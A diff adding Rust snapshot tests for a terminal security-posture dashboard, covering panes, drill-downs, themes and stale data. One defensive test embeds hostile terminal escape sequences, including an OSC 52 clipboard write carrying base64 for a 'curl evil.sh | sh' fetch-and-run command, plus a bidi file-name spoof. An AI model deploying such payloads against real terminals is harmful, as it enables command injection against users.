@@ -1,0 +1,272 @@
+//! Rendered frames, snapshot-tested with colours: each pane at 80x24 and 160x48, drill-downs,
+//! help, the empty store, a failing source, stale data, themes, and hostile text.
+
+mod common;
+
+use common::{at, demo, render, snapshot, t0};
+use ratatui::buffer::Buffer;
+use vigil::app::update;
+use vigil::catalog::Catalog;
+use vigil::fixtures::{FindingSpec, Fixtures};
+use vigil::keymap::Action;
+use vigil::model::*;
+use vigil::sources::{Dataset, SourceError, SourceEvent, SourceKind};
+use vigil::store::Posture;
+use vigil::theme::Theme;
+use vigil::ui::detail::{ControlDetail, Target};
+use vigil::ui::{Banner, Screen, View};
+
+fn dark() -> Theme {
+    Theme::load("dark", false).unwrap()
+}
+
+fn check(name: &str, buffer: &Buffer, theme: &Theme) {
+    let mut settings = insta::Settings::clone_current();
+    settings.set_snapshot_path("../snapshots");
+    settings.set_prepend_module_to_snapshot(false);
+    settings.set_omit_expression(true);
+    settings.bind(|| insta::assert_snapshot!(name, snapshot(buffer, theme)));
+}
+
+fn text(buffer: &Buffer) -> String {
+    let mut s = String::new();
+    for y in 0..buffer.area.height {
+        for x in 0..buffer.area.width {
+            s.push_str(buffer[(x, y)].symbol());
+        }
+        s.push('\n');
+    }
+    s
+}
+
+/// Selects the row of a control in its pane.
+fn select(view: &mut View, posture: &Posture, id: &str) {
+    let index = posture.control_index(id).unwrap();
+    let kind = posture.control(index).kind;
+    view.focus = kind;
+    view.selected[kind.index()] = posture.pane(kind).iter().position(|&i| i == index).unwrap();
+}
+
+#[test]
+fn each_pane_at_80x24() {
+    let theme = dark();
+    let (posture, mut view) = demo(0);
+    for (kind, id) in [(ControlKind::Preventive, "PRV-02"), (ControlKind::Detective, "DET-04"), (ControlKind::Corrective, "COR-02")] {
+        select(&mut view, &posture, id);
+        assert_eq!(view.focus, kind);
+        let frame = render(&posture, &view, &theme, t0(), 80, 24);
+        check(&format!("pane_{}_80x24", kind.name()), &frame, &theme);
+    }
+}
+
+#[test]
+fn each_pane_at_160x48() {
+    let theme = dark();
+    let (posture, mut view) = demo(40);
+    for (kind, id) in [(ControlKind::Preventive, "PRV-01"), (ControlKind::Detective, "DET-03"), (ControlKind::Corrective, "COR-04")] {
+        select(&mut view, &posture, id);
+        assert_eq!(view.focus, kind);
+        let frame = render(&posture, &view, &theme, at(40), 160, 48);
+        check(&format!("pane_{}_160x48", kind.name()), &frame, &theme);
+    }
+}
+
+#[test]
+fn drill_down_from_a_failing_control_to_its_resource() {
+    let theme = dark();
+    let (posture, mut view) = demo(40);
+    select(&mut view, &posture, "PRV-01");
+    update(&mut view, &posture, Action::Enter);
+    let Screen::Control { index, cursor } = view.screen else { panic!("Enter opens the control") };
+    assert!(
+        matches!(ControlDetail::new(&posture, index, 158).target(cursor), Some(Target::Resource(_))),
+        "the cursor starts on the first failing resource"
+    );
+    let frame = render(&posture, &view, &theme, at(40), 160, 48);
+    check("drilldown_control_160x48", &frame, &theme);
+    update(&mut view, &posture, Action::Enter);
+    let Screen::Resource { id, .. } = &view.screen else { panic!("Enter on row {cursor} did not open a resource") };
+    assert_eq!(id.short_name(), "fraud-detection-nb");
+    let frame = render(&posture, &view, &theme, at(40), 160, 48);
+    check("drilldown_resource_160x48", &frame, &theme);
+    let small = render(&posture, &view, &theme, at(40), 80, 24);
+    check("drilldown_resource_80x24", &small, &theme);
+    update(&mut view, &posture, Action::Back);
+    assert!(matches!(view.screen, Screen::Control { .. }));
+}
+
+#[test]
+fn help_overlay() {
+    let theme = dark();
+    let (posture, mut view) = demo(0);
+    update(&mut view, &posture, Action::Help);
+    check("help_80x24", &render(&posture, &view, &theme, t0(), 80, 24), &theme);
+}
+
+#[test]
+fn the_empty_store_waits_for_data() {
+    let theme = dark();
+    let mut posture = Posture::new(Catalog::default_catalog());
+    for kind in [SourceKind::Config, SourceKind::SecurityHub, SourceKind::CloudWatch] {
+        posture.register_source(kind, kind.default_interval());
+    }
+    let view = View::new(Banner::Demo { title: "SageMaker guardrails workshop".into() });
+    let frame = render(&posture, &view, &theme, t0(), 160, 48);
+    assert!(text(&frame).contains("Waiting for data from config, securityhub, cloudwatch"));
+    check("empty_160x48", &frame, &theme);
+    check("empty_80x24", &render(&posture, &view, &theme, t0(), 80, 24), &theme);
+}
+
+#[test]
+fn a_source_in_error_next_to_two_healthy_ones() {
+    let theme = dark();
+    let (mut posture, mut view) = demo(60);
+    posture.apply(SourceEvent {
+        source: SourceKind::CloudWatch,
+        fetched_at: at(61),
+        result: Err(SourceError::Unauthorized { action: "cloudwatch:DescribeAlarms".into() }),
+    });
+    select(&mut view, &posture, "DET-04");
+    let frame = render(&posture, &view, &theme, at(75), 160, 48);
+    let shown = text(&frame);
+    assert!(shown.contains("cloudwatch ✘ unauthorized: cloudwatch:DescribeAlarms (data 15s old)"), "{shown}");
+    assert!(shown.contains("config ● ok"));
+    assert!(shown.contains("firing"), "the last good data stays on screen");
+    check("source_error_160x48", &frame, &theme);
+}
+
+#[test]
+fn stale_data_is_marked() {
+    let theme = dark();
+    let (posture, mut view) = demo(0);
+    select(&mut view, &posture, "PRV-02");
+    let frame = render(&posture, &view, &theme, at(600), 160, 48);
+    let shown = text(&frame);
+    assert!(shown.contains("◷ STALE (was FAIL 1)"), "{shown}");
+    assert!(shown.contains("securityhub ◷ stale"), "{shown}");
+    check("stale_160x48", &frame, &theme);
+}
+
+#[test]
+fn light_and_high_contrast_themes() {
+    let (posture, mut view) = demo(40);
+    select(&mut view, &posture, "PRV-01");
+    for name in ["light", "high-contrast"] {
+        let theme = Theme::load(name, false).unwrap();
+        check(&format!("theme_{name}_160x48"), &render(&posture, &view, &theme, at(40), 160, 48), &theme);
+    }
+}
+
+#[test]
+fn no_color_keeps_meaning_without_colours() {
+    let theme = Theme::load("dark", true).unwrap();
+    let (posture, mut view) = demo(0);
+    select(&mut view, &posture, "PRV-03");
+    let frame = render(&posture, &view, &theme, t0(), 80, 24);
+    for y in 0..24 {
+        for x in 0..80 {
+            let style = frame[(x, y)].style();
+            assert!(style.fg.is_none() || style.fg == Some(ratatui::style::Color::Reset), "colour at {x},{y}");
+        }
+    }
+    check("no_color_80x24", &frame, &theme);
+}
+
+#[test]
+fn the_story_ends_repaired_at_250x70() {
+    let theme = dark();
+    let (posture, mut view) = demo(90);
+    select(&mut view, &posture, "COR-04");
+    let frame = render(&posture, &view, &theme, at(90), 250, 70);
+    let shown = text(&frame);
+    assert!(shown.contains("All quiet again"));
+    check("story_end_250x70", &frame, &theme);
+}
+
+#[test]
+fn every_size_from_80x24_to_250x70_shows_the_three_panes() {
+    let theme = dark();
+    let (posture, mut view) = demo(40);
+    for (w, h) in [(80, 24), (100, 30), (119, 40), (120, 40), (160, 48), (200, 50), (250, 70)] {
+        for kind in ControlKind::ALL {
+            view.focus = kind;
+            let shown = text(&render(&posture, &view, &theme, at(40), w, h));
+            for title in ["Preventive", "Detective", "Corrective"] {
+                assert!(shown.contains(title), "{title} missing at {w}x{h}");
+            }
+            assert!(shown.contains("vigil"), "header at {w}x{h}");
+        }
+    }
+}
+
+/// Finding titles and resource ids that try to retitle the window, write the clipboard,
+/// clear the screen and reverse text.
+#[test]
+fn hostile_text_renders_inert() {
+    let theme = dark();
+    let mut fx = Fixtures::starting_at(t0());
+    let mut posture = Posture::new(Catalog::default_catalog());
+    let evil_arn = "arn:aws:sagemaker:us-east-1:123456789012:notebook-instance/nb\u{1b}]0;pwned\u{7}\u{202e}gpj.exe";
+    let findings = vec![
+        fx.finding(FindingSpec {
+            id: "evil-1",
+            control_id: Some("SageMaker.1"),
+            title: "Notebook \u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{1b}\\ has internet\u{1b}[2J\u{1b}[H access",
+            severity: Severity::High,
+            compliance: Some(FindingCompliance::Failed),
+            resource: ("AwsSageMakerNotebookInstance", evil_arn),
+            ..Default::default()
+        }),
+        fx.finding(FindingSpec {
+            id: "evil-2",
+            product: "GuardDuty\u{9b}31m",
+            control_id: Some("SageMaker.1"),
+            title: "Title with \u{202e}override and\nnewline and \u{9d}8-bit OSC",
+            severity: Severity::Critical,
+            compliance: Some(FindingCompliance::Failed),
+            resource: ("AwsS3Bucket\u{1b}[31m", "arn:aws:s3:::bucket\u{7f}\u{1b}[1;1H"),
+            ..Default::default()
+        }),
+    ];
+    posture.apply(fx.replace(SourceKind::SecurityHub, 0, Dataset { findings, ..Default::default() }));
+    let mut view = View::new(Banner::Live {
+        profile: Some("prod\u{1b}]2;x\u{7}".into()),
+        region: "us-east-1".into(),
+        account: Some("123456789012".into()),
+    });
+    select(&mut view, &posture, "PRV-01");
+    let overview = render(&posture, &view, &theme, t0(), 160, 48);
+    update(&mut view, &posture, Action::Enter);
+    let control = render(&posture, &view, &theme, t0(), 160, 48);
+    update(&mut view, &posture, Action::Enter);
+    assert!(matches!(view.screen, Screen::Resource { .. }), "{:?}", view.screen);
+    let resource = render(&posture, &view, &theme, t0(), 160, 48);
+    for frame in [&overview, &control, &resource] {
+        for cell in frame.content() {
+            for c in cell.symbol().chars() {
+                let u = c as u32;
+                assert!(u >= 0x20 && !(0x7f..=0x9f).contains(&u), "control character {u:#x} reached the screen");
+                assert!(!matches!(u, 0x202a..=0x202e | 0x2066..=0x2069), "bidi override reached the screen");
+            }
+        }
+    }
+    assert!(text(&control).contains("␛]52;c;"), "the attempt is visible");
+    check("hostile_text_control_160x48", &control, &theme);
+    check("hostile_text_resource_160x48", &resource, &theme);
+}
+
+#[test]
+fn selection_and_failures_are_styled_by_the_theme() {
+    let theme = dark();
+    let (posture, mut view) = demo(0);
+    select(&mut view, &posture, "PRV-02");
+    let frame = render(&posture, &view, &theme, t0(), 160, 48);
+    // Find the FAIL symbol of PRV-02's row and check its colour is the theme's selection.
+    let row = (0..48).find(|&y| (0..160).map(|x| frame[(x, y)].symbol()).collect::<String>().contains("PRV-02")).unwrap();
+    let x = (0..160).find(|&x| frame[(x, row)].symbol() == "✘").unwrap();
+    assert_eq!(frame[(x, row)].style().bg, theme.style(vigil::theme::Token::Selection).bg);
+    // An unselected failing row carries the fail colour.
+    let other = (0..48).find(|&y| (0..160).map(|x| frame[(x, y)].symbol()).collect::<String>().contains("PRV-03")).unwrap();
+    let x = (0..160).find(|&x| frame[(x, other)].symbol() == "✘").unwrap();
+    assert_eq!(frame[(x, other)].style().fg, theme.style(vigil::theme::Token::Fail).fg);
+}
